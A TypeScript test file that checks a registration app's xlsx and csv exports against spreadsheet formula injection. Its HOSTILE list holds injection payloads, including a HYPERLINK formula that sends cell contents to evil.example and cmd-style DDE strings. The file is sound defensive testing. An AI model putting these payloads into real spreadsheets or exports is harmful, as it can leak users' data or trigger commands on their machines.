import { unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { wordsIn } from '#messages/catalogues.ts';
import { exportRegistrations } from '#modules/initiatives/export/server/queries.ts';
import { sheetToMend } from '#modules/registers/register/server/queries-mend.ts';
import { read } from '#platform/server/db.ts';
import { readSheets } from '#platform/server/sheet-reader.ts';
import { type Cast, cycles, openCast } from '../support/cast.ts';
import { importList } from '../support/registers.ts';

// What a spreadsheet would take for a formula: the usual four, behind a tab or a space, and in full width.
const HOSTILE = [
  '=HYPERLINK("http://evil.example?"&A1,"Bấm vào đây")',
  '+cmd!A0',
  '-2+3+cmd!x',
  '@SUM(1+1)*cmd!x',
  '\t=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
];

let cast: Cast;
let registerId: number;
beforeAll(async () => {
  cast = await openCast();
  const good = HOSTILE.map((name, at) => `${at} | ${name} | ${name} | Xã Đông Một | KT | x | |`);
  const bad = HOSTILE.map((name, at) => `${at} | ${name} | ${name} | ${name} | KT | x | |`);
  const { id } = await importList(cast, [...good, ...bad].join('\n'), { acceptValid: true });
  registerId = id as number;
});
afterAll(() => cast.close());

async function whole(bytes: AsyncIterable<Uint8Array>): Promise<Buffer> {
  return Buffer.concat(await Array.fromAsync(bytes));
}

/** The cells of a workbook's one sheet as they are written: no formula among them. */
function sheetXml(body: Uint8Array): string {
  return new TextDecoder().decode(unzipSync(body)['xl/worksheets/sheet1.xml']);
}

describe('texts that look like formulas', () => {
  test('stand as texts in the file of rows to mend', async () => {
    const ctx = cast.contextFor('provincial_officer');
    const { body } = await read(ctx, (db) => sheetToMend(db, ctx, registerId, wordsIn('vi')));
    const xml = sheetXml(body);
    expect(xml).not.toMatch(/<f[\s>]/);
    expect(xml.match(/<c [^>]*>/g)?.filter((cell) => !cell.includes('t="inlineStr"'))).toEqual([]);
    const { sheets } = await readSheets(body, 'x.xlsx');
    const names = sheets[0]!.rows.slice(3).map((row) => row.cells[1]);
    expect(names).toEqual(HOSTILE.map((name) => name.trim()));
  });

  test.each(['xlsx', 'csv'] as const)('stand as texts in the list of models as .%s', async (format) => {
    const ctx = cast.contextFor('provincial_officer');
    const words = { t: wordsIn('vi'), language: 'vi' as const };
    const { rows, bytes } = await exportRegistrations(ctx, { cycle: cycles.last }, format, words);
    const body = await whole(bytes);
    expect(rows).toBe(HOSTILE.length);
    if (format === 'xlsx') {
      expect(sheetXml(body)).not.toMatch(/<f[\s>]/);
      return;
    }
    const text = body.toString('utf8').replace(/^\uFEFF/, '');
    const starts = text.split(/\r\n|,|;/).map((cell) => cell.replace(/^"/, ''));
    expect(starts.filter((cell) => /^[\s\u00A0\u3000]*[=+\-@＝＋－＠]/.test(cell))).toEqual([]);
    expect(starts.filter((cell) => cell.startsWith("'")).length).toBeGreaterThanOrEqual(HOSTILE.length);
  });
});
